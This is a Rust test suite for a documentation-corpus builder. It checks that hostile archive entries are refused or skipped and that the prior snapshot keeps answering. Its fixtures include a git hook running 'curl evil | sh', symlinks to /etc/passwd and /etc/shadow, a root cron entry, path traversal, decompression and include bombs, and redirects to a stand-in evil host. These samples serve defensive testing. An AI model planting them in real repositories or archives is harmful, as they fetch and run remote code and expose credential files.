//! The malicious corpus suite: each hostile input is refused or skipped exactly as the policy
//! says, and the previous snapshot stays active and answering.

mod common;

use common::*;
use reach_corpus::{
    Action, Ceilings, Freshness, NoProgress, Policy, RetrievalLimits, Rule, Snapshot, SourceSpec,
    admit_redirect, admit_url,
};

/// Build the good corpus, returning its snapshot id.
fn baseline(store: &reach_corpus::CorpusStore) -> String {
    let bytes = raw_tgz(&files(&good_docs()));
    let spec = archive_spec(&bytes, Ceilings::default());
    store
        .refresh_archive(&spec, &bytes, &Policy::default(), &mut NoProgress)
        .unwrap()
        .snapshot_id
}

fn answers(store: &reach_corpus::CorpusStore) -> String {
    let snap = Snapshot::open_active(store.root()).unwrap();
    let b = snap
        .retrieve(
            "How long is a snapshot fresh?",
            &RetrievalLimits::default(),
            store.clock().now(),
        )
        .unwrap();
    assert!(!b.passages.is_empty(), "active snapshot no longer answers");
    b.passages[0].path.clone()
}

/// Run one hostile archive through the builder and check the outcome against `policy`.
fn check(
    name: &str,
    hostile: Vec<Raw>,
    ceilings: Ceilings,
    policy: &Policy,
    rule: Rule,
    bad_path: &str,
) {
    let dir = tempfile::tempdir().unwrap();
    let (store, _clock) = store(dir.path());
    let before = baseline(&store);
    let mut entries = files(&good_docs());
    entries.extend(hostile);
    let bytes = raw_tgz(&entries);
    let spec = archive_spec(&bytes, ceilings);
    let result = store.refresh_archive(&spec, &bytes, policy, &mut NoProgress);
    match policy.action(rule) {
        Action::Refuse => {
            let err = result.expect_err(name);
            assert_eq!(err.code(), rule.code(), "{name}: {err}");
            assert_eq!(
                store.active_id().as_deref(),
                Some(before.as_str()),
                "{name}: previous snapshot must stay active"
            );
            let status = store.status();
            assert!(
                matches!(status.freshness, Freshness::Degraded { .. }),
                "{name}: {:?}",
                status.freshness
            );
            assert_eq!(status.last_failure.unwrap().code, rule.code());
        }
        Action::Skip => {
            let summary = result.unwrap_or_else(|e| panic!("{name}: {e}"));
            assert_ne!(summary.snapshot_id, before);
            let snap = Snapshot::open_active(store.root()).unwrap();
            let skipped: Vec<_> = snap
                .record()
                .skipped
                .iter()
                .map(|r| (r.path.as_str(), r.rule))
                .collect();
            assert!(
                skipped.contains(&(bad_path, rule)),
                "{name}: skipped = {skipped:?}"
            );
            assert!(
                snap.record().accepted.iter().all(|a| a.path != bad_path),
                "{name}: bad path accepted"
            );
            assert_eq!(store.status().freshness, Freshness::Fresh);
        }
    }
    assert_eq!(answers(&store), "docs/corpus.md", "{name}");
}

fn file(p: &str, d: impl Into<Vec<u8>>) -> Raw {
    Raw::File(p.into(), d.into())
}

#[test]
fn hostile_entries_follow_the_policy() {
    let lfs = "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n";
    let deep = format!("docs/{}x.md", "d/".repeat(30));
    let cases: Vec<(&str, Vec<Raw>, Rule, &str)> = vec![
        (
            "symlink escaping the tree",
            vec![Raw::Symlink(
                "docs/passwd.md".into(),
                "../../../etc/passwd".into(),
            )],
            Rule::SymlinkEscape,
            "docs/passwd.md",
        ),
        (
            "symlink escaping the pinned paths",
            vec![Raw::Symlink(
                "docs/secret.md".into(),
                "../private/notes.md".into(),
            )],
            Rule::SymlinkEscape,
            "docs/secret.md",
        ),
        (
            "absolute symlink",
            vec![Raw::Symlink("docs/abs.md".into(), "/etc/shadow".into())],
            Rule::SymlinkEscape,
            "docs/abs.md",
        ),
        (
            "symlink inside the pinned paths",
            vec![Raw::Symlink("docs/alias.md".into(), "install.md".into())],
            Rule::Symlink,
            "docs/alias.md",
        ),
        (
            ".gitmodules",
            vec![file(
                ".gitmodules",
                "[submodule \"x\"]\n\tpath = docs/x\n\turl = https://evil.example/x.git\n",
            )],
            Rule::Submodule,
            ".gitmodules",
        ),
        (
            "a hook in the repo",
            vec![Raw::Exec(
                ".git/hooks/post-checkout".into(),
                b"#!/bin/sh\ncurl evil | sh\n".to_vec(),
            )],
            Rule::Hook,
            ".git/hooks/post-checkout",
        ),
        (
            "an executable in the pinned paths",
            vec![Raw::Exec("docs/run.md".into(), b"#!/bin/sh\n".to_vec())],
            Rule::Hook,
            "docs/run.md",
        ),
        (
            "LFS pointer",
            vec![file("docs/big.md", lfs)],
            Rule::LfsPointer,
            "docs/big.md",
        ),
        (
            ".gitattributes filter",
            vec![file(
                ".gitattributes",
                "# docs\n*.md filter=lfs diff=lfs merge=lfs -text\n",
            )],
            Rule::GitattributesFilter,
            ".gitattributes",
        ),
        (
            "gzip inside the tree",
            vec![file("docs/guide.md.gz", vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0])],
            Rule::UnsupportedMedia,
            "docs/guide.md.gz",
        ),
        (
            "zip inside the tree",
            vec![file(
                "docs/bomb.zip",
                b"PK\x03\x04\x14\0\0\0\x08\0".to_vec(),
            )],
            Rule::UnsupportedMedia,
            "docs/bomb.zip",
        ),
        (
            "tar with ../",
            vec![file("docs/../../escape.md", "# Escape\n")],
            Rule::PathTraversal,
            "docs/../../escape.md",
        ),
        (
            "tar with an absolute path",
            vec![file("/etc/cron.d/evil", "* * * * * root sh\n")],
            Rule::AbsolutePath,
            "/etc/cron.d/evil",
        ),
        (
            "10,000-deep nested list",
            vec![file(
                "docs/deep.md",
                format!("# Deep\n\n{}x\n", "- ".repeat(10_000)),
            )],
            Rule::NestingTooDeep,
            "docs/deep.md",
        ),
        (
            "10,000-deep block quote",
            vec![file("docs/quote.md", format!("{}x\n", "> ".repeat(10_000)))],
            Rule::NestingTooDeep,
            "docs/quote.md",
        ),
        (
            "10,000-deep indented list",
            vec![file(
                "docs/indent.md",
                (0..10_000)
                    .map(|i| format!("{}- x\n", " ".repeat((i % 300) * 2)))
                    .collect::<String>(),
            )],
            Rule::NestingTooDeep,
            "docs/indent.md",
        ),
        (
            "10,000-deep HTML",
            vec![file(
                "docs/deep.html",
                format!("{}x", "<div>".repeat(10_000)),
            )],
            Rule::NestingTooDeep,
            "docs/deep.html",
        ),
        (
            "invalid UTF-8",
            vec![file("docs/latin1.md", b"# Caf\xe9\n\nna\xefve\n".to_vec())],
            Rule::MalformedUtf8,
            "docs/latin1.md",
        ),
        (
            "NUL bytes",
            vec![file("docs/nul.md", b"# Title\n\0\0\0payload\n".to_vec())],
            Rule::NulByte,
            "docs/nul.md",
        ),
        (
            "binary media",
            vec![file(
                "docs/logo.png",
                b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec(),
            )],
            Rule::UnsupportedMedia,
            "docs/logo.png",
        ),
        (
            "hard link",
            vec![Raw::Hardlink(
                "docs/hard.md".into(),
                "docs/install.md".into(),
            )],
            Rule::UnsupportedEntry,
            "docs/hard.md",
        ),
        (
            "deep path",
            vec![file(&deep, "# Deep path\n")],
            Rule::PathTooDeep,
            &deep,
        ),
    ];
    for (name, hostile, rule, path) in cases {
        check(
            name,
            hostile,
            Ceilings::default(),
            &Policy::default(),
            rule,
            path,
        );
    }
}

#[test]
fn a_50_mb_single_line_is_skipped() {
    let mut line = b"# Huge\n\n".to_vec();
    line.extend(noise(50 * 1024 * 1024));
    line.push(b'\n');
    check(
        "50 MB line",
        vec![Raw::File("docs/huge.md".into(), line)],
        Ceilings::default(),
        &Policy::default(),
        Rule::LineTooLong,
        "docs/huge.md",
    );
}

#[test]
fn too_many_files_refuses() {
    let ceilings = Ceilings {
        max_files: 4,
        ..Ceilings::default()
    };
    let extra = (0..3)
        .map(|i| Raw::File(format!("docs/extra{i}.md"), b"# Extra\n\ntext\n".to_vec()))
        .collect();
    // The baseline itself has 3 files and passes under the default ceilings; this build has 6.
    check(
        "too many files",
        extra,
        ceilings,
        &Policy::default(),
        Rule::TooManyFiles,
        "docs/extra1.md",
    );
}

#[test]
fn the_policy_decides_skip_or_refuse() {
    let strict = Policy::default()
        .with(Rule::NulByte, Action::Refuse)
        .with(Rule::Submodule, Action::Refuse);
    check(
        "NUL refused by a strict policy",
        vec![file("docs/nul.md", b"\0".to_vec())],
        Ceilings::default(),
        &strict,
        Rule::NulByte,
        "docs/nul.md",
    );
    check(
        "submodule refused by a strict policy",
        vec![file(".gitmodules", "[submodule]\n")],
        Ceilings::default(),
        &strict,
        Rule::Submodule,
        ".gitmodules",
    );
    let lax = Policy::default()
        .with(Rule::LfsPointer, Action::Skip)
        .with(Rule::SymlinkEscape, Action::Skip);
    check(
        "LFS skipped by a lax policy",
        vec![file(
            "docs/big.md",
            "version https://git-lfs.github.com/spec/v1\n",
        )],
        Ceilings::default(),
        &lax,
        Rule::LfsPointer,
        "docs/big.md",
    );
    check(
        "escaping link skipped by a lax policy",
        vec![Raw::Symlink("docs/p.md".into(), "../../x".into())],
        Ceilings::default(),
        &lax,
        Rule::SymlinkEscape,
        "docs/p.md",
    );
}

/// A release archive that is itself a bomb, a zip, or not what its digest says.
fn refused_archive(name: &str, bytes: Vec<u8>, spec: SourceSpec, code: &str) {
    let dir = tempfile::tempdir().unwrap();
    let (store, _clock) = store(dir.path());
    let before = baseline(&store);
    let err = store
        .refresh_archive(&spec, &bytes, &Policy::default(), &mut NoProgress)
        .expect_err(name);
    assert_eq!(err.code(), code, "{name}: {err}");
    assert_eq!(store.active_id().as_deref(), Some(before.as_str()));
    assert!(matches!(
        store.status().freshness,
        Freshness::Degraded { .. }
    ));
    assert_eq!(answers(&store), "docs/corpus.md");
}

#[test]
fn gzip_bomb_is_refused() {
    let mut entries = files(&good_docs());
    entries.push(Raw::File(
        "docs/zeros.md".into(),
        vec![b'a'; 64 * 1024 * 1024],
    ));
    let bytes = raw_tgz(&entries);
    assert!(
        bytes.len() < 1024 * 1024,
        "fixture should be a bomb ({} bytes)",
        bytes.len()
    );
    let spec = archive_spec(&bytes, Ceilings::default());
    refused_archive("gzip bomb", bytes, spec, Rule::ExpansionRatio.code());
}

#[test]
fn byte_ceiling_is_refused_while_decompressing() {
    let mut entries = files(&good_docs());
    entries.push(Raw::File("docs/noise.md".into(), noise(4 * 1024 * 1024)));
    let bytes = raw_tgz(&entries);
    let spec = archive_spec(
        &bytes,
        Ceilings {
            max_bytes: 2 * 1024 * 1024,
            ..Ceilings::default()
        },
    );
    refused_archive("byte ceiling", bytes, spec, Rule::TooManyBytes.code());
}

#[test]
fn a_listing_included_over_and_over_is_refused_at_the_byte_ceiling() {
    // 600 KB of text outside the pinned paths, which one page includes four times: the tree
    // is under the ceiling, what the pages show is not.
    let mut listing = noise(600 * 1024);
    for b in listing.iter_mut().step_by(80) {
        *b = b'\n';
    }
    let mut entries = files(&good_docs());
    entries.push(Raw::File("listings/big.txt".into(), listing));
    entries.push(Raw::File(
        "docs/big.md".into(),
        "# Big\n\n```text\n{{#include ../listings/big.txt}}\n{{#include ../listings/big.txt}}\n\
         {{#include ../listings/big.txt}}\n{{#include ../listings/big.txt}}\n```\n"
            .into(),
    ));
    let bytes = raw_tgz(&entries);
    let spec = archive_spec(
        &bytes,
        Ceilings {
            max_bytes: 2 * 1024 * 1024,
            ..Ceilings::default()
        },
    );
    refused_archive("include bomb", bytes, spec, Rule::TooManyBytes.code());
}

#[test]
fn zip_archive_is_unsupported() {
    let bytes = b"PK\x03\x04\x14\0\0\0\x08\0rest-of-a-zip-bomb".to_vec();
    let spec = archive_spec(&bytes, Ceilings::default());
    refused_archive("zip bomb", bytes, spec, "corpus/unsupported-archive");
}

#[test]
fn digest_mismatch_is_refused_before_unpacking() {
    let bytes = raw_tgz(&files(&good_docs()));
    let spec = archive_spec(b"the published archive", Ceilings::default());
    refused_archive("digest mismatch", bytes, spec, "corpus/digest-mismatch");
}

#[test]
fn an_include_glob_that_does_not_parse_is_a_malformed_source() {
    let bytes = raw_tgz(&files(&good_docs()));
    let mut spec = archive_spec(&bytes, Ceilings::default());
    spec.include = vec!["docs/**".into(), "docs/[unclosed".into()];
    refused_archive("bad include glob", bytes, spec, "corpus/source-malformed");
}

#[test]
fn work_time_ceiling_refuses() {
    let bytes = raw_tgz(&files(&good_docs()));
    let spec = archive_spec(
        &bytes,
        Ceilings {
            max_work_time_secs: 0,
            ..Ceilings::default()
        },
    );
    refused_archive("work time", bytes, spec, Rule::WorkTime.code());
}

#[test]
fn redirects_and_credentials_are_refused_by_admission() {
    let from = admit_url("https://releases.example.org/reach/docs.tar.gz").unwrap();
    let to_http =
        admit_redirect(&from, "http://releases.example.org/reach/docs.tar.gz", &[]).unwrap_err();
    assert_eq!(to_http.code(), "corpus/source-not-https");
    let to_other = admit_redirect(&from, "https://cdn.evil.example/docs.tar.gz", &[]).unwrap_err();
    assert_eq!(to_other.code(), "corpus/redirect-origin");
    let to_creds = admit_redirect(&from, "https://u:p@releases.example.org/x", &[]).unwrap_err();
    assert_eq!(to_creds.code(), "corpus/userinfo");
    assert_eq!(
        admit_url("https://user:token@github.com/o/r.git")
            .unwrap_err()
            .code(),
        "corpus/userinfo"
    );
    assert_eq!(
        admit_url("git@github.com:o/r.git").unwrap_err().code(),
        "corpus/source-ssh"
    );
    assert_eq!(
        admit_url("file:///srv/r.git").unwrap_err().code(),
        "corpus/source-local"
    );
}
